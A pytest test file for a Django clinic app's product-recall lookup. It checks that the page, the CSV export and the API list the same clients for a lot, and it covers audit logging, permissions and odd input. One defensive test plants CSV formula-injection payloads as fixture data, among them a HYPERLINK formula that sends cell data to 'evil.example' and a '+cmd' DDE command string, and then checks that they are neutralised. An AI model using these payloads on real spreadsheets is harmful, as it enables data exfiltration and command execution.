"""The recall look-up: which clients received a lot — the page, the CSV export and the
API show exactly the same rows (REG-16, REG-40; security.md V1.2.10, B21)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote, urlencode

import pytest
from django.db import connection
from django.test import Client as HttpClient
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from skinchart.accounts.actions import issue_api_token
from skinchart.accounts.models import User
from skinchart.audit.models import AuditEvent
from skinchart.clients.models import Client
from skinchart.clients.tests.factories import ClientFactory
from skinchart.journal.db_guards import removed_guards
from skinchart.lib.spreadsheet_csv import BOM
from skinchart.products.models import Batch
from skinchart.products.tests.factories import BatchFactory, ProductFactory
from skinchart.products.tests.treated import treat
from skinchart.sessions.models import TreatmentSession

pytestmark = pytest.mark.django_db

SignIn = Callable[[User], HttpClient]
PAGE = "/products/recall/"
CSV = "/products/recall.csv"
EXPIRES = timezone.localdate() + dt.timedelta(days=200)


def page_url(lot: str) -> str:
    return f"{PAGE}?{urlencode({'lot': lot})}"


def csv_url(lot: str) -> str:
    return f"{CSV}?{urlencode({'lot': lot})}"


def api_url(lot: str) -> str:
    return f"/api/v1/batches/{quote(lot, safe='')}/sessions"


def bearer(user: User) -> HttpClient:
    _, plain = issue_api_token(actor=None, user=user)
    return HttpClient(HTTP_AUTHORIZATION=f"Bearer {plain}")


def page_clients(http: HttpClient, lot: str) -> list[str]:
    """The client code of each row of the results table, in order."""
    response = http.get(page_url(lot))
    assert response.status_code == 200
    html = response.content.decode()
    return [part.split('"', 1)[0] for part in html.split('<tr data-client="')[1:]]


def csv_table(http: HttpClient, lot: str) -> list[list[str]]:
    response = http.get(csv_url(lot))
    assert response.status_code == 200
    text = response.content.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM) :], newline=""), delimiter=";"))


@dataclass
class World:
    """Three clients; lot X-100 on two of them (one twice), and lots that differ from
    it only by case (x-100) or a trailing character (X-1000), and another lot Y-200."""

    ida: Client
    bo: Client
    carl: Client
    x100: Batch
    x100_lower: Batch
    x1000: Batch
    y200: Batch
    ida_session: TreatmentSession
    bo_session: TreatmentSession
    carl_session: TreatmentSession


@pytest.fixture
def world(doctor: User, nurse: User) -> World:
    filler = ProductFactory(name="Hydra Boost", manufacturer="Dermica", unit="ml")
    other = ProductFactory(name="Skin Glow", manufacturer="Lumen", unit="vial")
    x100 = BatchFactory(product=filler, lot="X-100", expires_on=EXPIRES)
    x100_lower = BatchFactory(product=other, lot="x-100")
    x1000 = BatchFactory(product=other, lot="X-1000")
    y200 = BatchFactory(product=other, lot="Y-200")
    ida = ClientFactory(first_name="Ida", last_name="Holm", date_of_birth=dt.date(1990, 1, 2))
    bo = ClientFactory(first_name="Bo", last_name="Berg")
    carl = ClientFactory(first_name="Carl", last_name="Dahl")
    ida_session = treat(doctor=doctor, nurse=nurse, client=ida, uses=[(x100, "1.5"), (x100, "0.5")], sign=True)
    bo_session = treat(doctor=doctor, nurse=nurse, client=bo, uses=[(y200, "1"), (x100_lower, "1")])
    carl_session = treat(doctor=doctor, nurse=nurse, client=carl, uses=[(x1000, "1"), (x100, "2")], stop=True)
    return World(ida, bo, carl, x100, x100_lower, x1000, y200, ida_session, bo_session, carl_session)


# --- exactly the right clients ---------------------------------------------------------


def test_recall_lookup_returns_exactly_the_clients_who_received_the_lot(
    world: World, doctor: User, sign_in: SignIn
) -> None:
    http = sign_in(doctor)
    ida, carl = str(world.ida.code), str(world.carl.code)

    assert page_clients(http, "X-100") == [ida, ida, carl]
    rows = csv_table(http, "X-100")
    assert [row[0] for row in rows[1:]] == ["Ida Holm", "Ida Holm", "Carl Dahl"]
    assert {row[8] for row in rows[1:]} == {"X-100"}
    answer = bearer(doctor).get(api_url("X-100")).json()
    assert [item["client"] for item in answer] == [ida, ida, carl]
    assert {item["lot"] for item in answer} == {"X-100"}


@pytest.mark.parametrize(
    ("lot", "who"),
    [
        ("x-100", "bo"),  # case counts
        ("X-1000", "carl"),  # a trailing character is another lot
        ("Y-200", "bo"),
        ("  X-100\t", "ida carl"),  # surrounding whitespace is ignored
        ("X-10", ""),
        ("X-100%", ""),
        ("unknown", ""),
    ],
)
def test_recall_matches_the_lot_exactly(world: World, doctor: User, sign_in: SignIn, lot: str, who: str) -> None:
    expected = [str(getattr(world, name).code) for name in who.split()]
    http = sign_in(doctor)

    assert list(dict.fromkeys(page_clients(http, lot))) == expected
    answer = bearer(doctor).get(api_url(lot.strip())).json()
    assert list(dict.fromkeys(item["client"] for item in answer)) == expected
    assert len(csv_table(http, lot)) - 1 == len(answer)


def test_rows_show_the_session_the_people_and_the_product(world: World, nurse: User, doctor: User) -> None:
    answer = bearer(nurse).get(api_url("X-100")).json()

    first, _, last = answer
    session = world.ida_session
    assert first == {
        "session": str(session.code),
        "client": str(world.ida.code),
        "client_name": "Ida Holm",
        "started_at": first["started_at"],
        "ended_at": first["ended_at"],
        "status": "signed",
        "performer": str(nurse),
        "responsible_doctor": str(doctor),
        "product": "Hydra Boost",
        "manufacturer": "Dermica",
        "lot": "X-100",
        "expires_on": EXPIRES.isoformat(),
        "quantity": "1.50",
        "unit": "ml",
        "area": "Kinder",
    }
    assert abs(dt.datetime.fromisoformat(first["started_at"]) - session.started_at) < dt.timedelta(milliseconds=1)
    assert first["ended_at"] is not None
    assert (last["status"], last["client"], last["quantity"]) == ("stopped", str(world.carl.code), "2.00")


def test_the_page_shows_local_time_status_and_quantity_with_unit(world: World, doctor: User, sign_in: SignIn) -> None:
    started = timezone.localtime(world.ida_session.started_at)

    html = sign_in(doctor).get(page_url("X-100")).content.decode()

    assert f"{started:%d.%m.%Y %H:%M}" in html
    assert "02.01.1990" in html  # date of birth
    assert f"{EXPIRES:%d.%m.%Y}" in html  # expiry
    assert f'href="/clients/{world.ida.code}/"' in html
    assert 'data-status="signed"' in html and 'data-status="stopped"' in html
    assert "1,50 ml" in html  # Danish decimal comma, the product's unit
    assert 'href="/products/recall.csv?lot=X-100"' in html


def test_rows_are_in_the_order_the_sessions_started(world: World, doctor: User) -> None:
    # Carl's session (stopped) is moved to before Ida's: the order follows the start.
    earlier = world.ida_session.started_at - dt.timedelta(hours=2)
    with removed_guards(connection):  # set-up: a stopped session is read-only
        TreatmentSession.objects.filter(pk=world.carl_session.pk).update(started_at=earlier)

    answer = bearer(doctor).get(api_url("X-100")).json()

    assert [item["client"] for item in answer] == [str(world.carl.code), str(world.ida.code), str(world.ida.code)]


def test_an_unknown_lot_is_an_empty_list_and_still_logged(doctor: User, sign_in: SignIn) -> None:
    response = bearer(doctor).get(api_url("NOPE-1"))

    assert response.status_code == 200
    assert response.json() == []
    event = AuditEvent.objects.get(action="products.recall_lookup")
    assert event.data == {"lot": "NOPE-1", "rows": 0, "client_count": 0, "clients": []}
    assert event.via == "api"


# --- audit ---------------------------------------------------------------------------------


def test_each_lookup_and_export_writes_one_event_with_the_clients(world: World, nurse: User, sign_in: SignIn) -> None:
    http = sign_in(nurse)
    expected = {
        "lot": "X-100",
        "rows": 3,
        "client_count": 2,
        "clients": [str(world.ida.code), str(world.carl.code)],
    }

    http.get(page_url(" X-100 "))
    http.get(csv_url("X-100"))

    lookup = AuditEvent.objects.get(action="products.recall_lookup")
    export = AuditEvent.objects.get(action="products.recall_exported")
    assert lookup.data == expected and export.data == expected
    assert lookup.actor == nurse and export.actor == nurse
    assert AuditEvent.objects.filter(action__startswith="products.").count() == 2


def test_the_empty_search_page_looks_nothing_up(nurse: User, sign_in: SignIn) -> None:
    response = sign_in(nurse).get(PAGE)

    assert response.status_code == 200
    assert b'id="recall-form"' in response.content
    assert b'id="recall-results"' not in response.content
    assert not AuditEvent.objects.filter(action="products.recall_lookup").exists()


# --- the CSV ---------------------------------------------------------------------------------


def test_the_csv_is_for_excel_in_denmark(world: World, doctor: User, sign_in: SignIn) -> None:
    response = sign_in(doctor).get(csv_url("X-100"))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="recall-X-100-{timezone.localdate():%Y-%m-%d}.csv"'
    )
    assert response["Cache-Control"] == "no-store, private"
    assert response.content.startswith(b"\xef\xbb\xbf")
    header, first, *_ = csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";")
    assert len(header) == 13
    started = timezone.localtime(world.ida_session.started_at)
    assert first == [
        "Ida Holm",
        "02.01.1990",
        f"{started:%d.%m.%Y %H:%M}",
        first[3],  # the status, in the user's language
        str(world.ida_session.performer),
        str(world.ida_session.responsible_doctor),
        "Hydra Boost",
        "Dermica",
        "X-100",
        f"{EXPIRES:%d.%m.%Y}",
        "1,50",
        first[11],  # the unit, in the user's language
        "Kinder",
    ]


def test_the_csv_header_is_in_the_users_language(world: World, doctor: User, sign_in: SignIn) -> None:
    http = sign_in(doctor)
    danish = csv_table(http, "X-100")[0]
    http.cookies["django_language"] = "en"
    english = csv_table(http, "X-100")[0]

    assert english[0] == "Client" and english[8] == "Lot"
    assert len(danish) == len(english)


def test_csv_cells_that_could_start_a_formula_are_neutralised(doctor: User, nurse: User, sign_in: SignIn) -> None:
    """B21: a client named like a formula, an area @SUM(1), a lot -1+1."""
    product = ProductFactory(name="+cmd|'/C calc'!A0", manufacturer="@Evil")
    batch = BatchFactory(product=product, lot="-1+1")
    client = ClientFactory(first_name='=HYPERLINK("http://evil.example/?"&A1', last_name='"x")')
    treat(doctor=doctor, nurse=nurse, client=client, uses=[(batch, "1")], area="@SUM(1)")

    rows = csv_table(sign_in(doctor), "-1+1")

    assert len(rows) == 2
    row = rows[1]
    assert row[0] == '\'=HYPERLINK("http://evil.example/?"&A1 "x")'
    assert row[6] == "'+cmd|'/C calc'!A0"
    assert row[7] == "'@Evil"
    assert row[8] == "'-1+1"
    assert row[12] == "'@SUM(1)"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)


def test_an_invalid_lot_in_the_export_goes_back_to_the_search_page(doctor: User, sign_in: SignIn) -> None:
    http = sign_in(doctor)

    response = http.get(csv_url("A\x00B"))

    assert response.status_code == 302
    assert response["Location"] == "/products/recall/?lot=A%00B"
    page = http.get(response["Location"])
    assert page.status_code == 200
    assert b'class="field has-error"' in page.content
    assert not AuditEvent.objects.filter(action__startswith="products.recall").exists()


def test_the_export_asks_for_a_recent_sign_in(world: World, doctor: User, sign_in: SignIn) -> None:
    http = sign_in(doctor)
    session = http.session
    session["reauth_at"] = 0
    session.save()

    response = http.get(csv_url("X-100"))

    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/reauth/")
    assert not AuditEvent.objects.filter(action="products.recall_exported").exists()


# --- odd lots --------------------------------------------------------------------------------


@pytest.mark.parametrize("lot", ["A\x00B", "\x00", "A\x1bB", "A\x7fB", "A\u0085B"])
def test_control_characters_are_refused(doctor: User, sign_in: SignIn, lot: str) -> None:
    api = bearer(doctor).get(api_url(lot))
    page = sign_in(doctor).get(page_url(lot))

    assert api.status_code == 422
    assert api["Content-Type"].startswith("application/json")
    assert "lot" in api.json()["errors"]
    assert page.status_code == 200
    assert b'class="field has-error"' in page.content
    assert not AuditEvent.objects.filter(action="products.recall_lookup").exists()


@pytest.mark.parametrize(
    "lot", ["\u200b", "\ufeffX-100", "X-100\u202e", "e\u0301", "İß", "👩\u200d⚕️", "\U0010fffd", "%00", "A/B", "ø" * 60]
)
def test_odd_but_printable_lots_are_simply_not_found(world: World, doctor: User, sign_in: SignIn, lot: str) -> None:
    api = bearer(doctor).get(api_url(lot))

    assert api.status_code == 200
    assert api.json() == []
    assert page_clients(sign_in(doctor), lot) == []


def test_a_lot_with_a_slash_is_found_through_the_api(doctor: User, nurse: User) -> None:
    batch = BatchFactory(lot="2026/07-B")
    client = ClientFactory()
    treat(doctor=doctor, nurse=nurse, client=client, uses=[(batch, "1")])

    answer = bearer(doctor).get(api_url("2026/07-B")).json()

    assert [item["client"] for item in answer] == [str(client.code)]


@pytest.mark.parametrize("lot", ["   ", "X" * 61])
def test_a_blank_or_too_long_lot_is_refused_by_the_api(doctor: User, lot: str) -> None:
    response = bearer(doctor).get(api_url(lot))

    assert response.status_code == 422
    assert response["Content-Type"].startswith("application/json")


# --- one query whatever the number of rows ------------------------------------------------------


def test_the_number_of_queries_does_not_grow_with_the_rows(doctor: User, nurse: User, sign_in: SignIn) -> None:
    product = ProductFactory()
    few = BatchFactory(product=product, lot="FEW")
    many = BatchFactory(product=product, lot="MANY")
    clients = [ClientFactory() for _ in range(3)]
    treat(doctor=doctor, nurse=nurse, client=clients[0], uses=[(few, "1")] * 3 + [(many, "1")] * 10)
    treat(doctor=doctor, nurse=nurse, client=clients[1], uses=[(many, "1")] * 10)
    treat(doctor=doctor, nurse=nurse, client=clients[2], uses=[(many, "1")] * 10)
    http, api = sign_in(doctor), bearer(doctor)

    def queries(client: HttpClient, url: str) -> int:
        with CaptureQueriesContext(connection) as context:
            assert client.get(url).status_code == 200
        return len(context.captured_queries)

    for url in (page_url, csv_url):
        assert queries(http, url("FEW")) == queries(http, url("MANY"))
    assert queries(api, api_url("FEW")) == queries(api, api_url("MANY"))
    assert len(api.get(api_url("MANY")).json()) == 30


# --- who may -------------------------------------------------------------------------------------


@pytest.mark.parametrize("persona", ["reception", "cosmetologist", "admin", "outsider"])
def test_only_doctors_and_nurses_may_look_up_a_lot(
    world: World, make_persona: Callable[[str], User], sign_in: SignIn, persona: str
) -> None:
    user = make_persona(persona)
    http = sign_in(user)

    assert http.get(page_url("X-100")).status_code == 403
    assert http.get(csv_url("X-100")).status_code == 403
    response = bearer(user).get(api_url("X-100"))
    assert response.status_code == 403
    assert response["Content-Type"].startswith("application/json")
    assert not AuditEvent.objects.filter(action__startswith="products.recall").exists()


def test_nurses_may_look_up_a_lot(world: World, nurse: User, sign_in: SignIn) -> None:
    http = sign_in(nurse)

    assert http.get(page_url("X-100")).status_code == 200
    assert http.get(csv_url("X-100")).status_code == 200
    assert bearer(nurse).get(api_url("X-100")).status_code == 200


def test_signed_out_users_are_sent_to_the_login(world: World) -> None:
    http = HttpClient()

    assert http.get(page_url("X-100")).status_code == 302
    assert http.get(csv_url("X-100")).status_code == 302
    assert http.get(api_url("X-100")).status_code == 401
